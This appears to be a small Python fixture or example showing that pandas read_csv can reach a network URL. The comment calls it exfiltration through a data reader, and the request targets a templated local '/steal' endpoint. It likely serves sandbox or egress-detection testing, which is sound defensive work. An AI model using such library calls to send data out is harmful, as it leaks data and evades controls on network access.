# pandas fetching a URL (exfiltration through a reader)
import pandas as pd
pd.read_csv("http://127.0.0.1:{PORT}/steal?x=1")
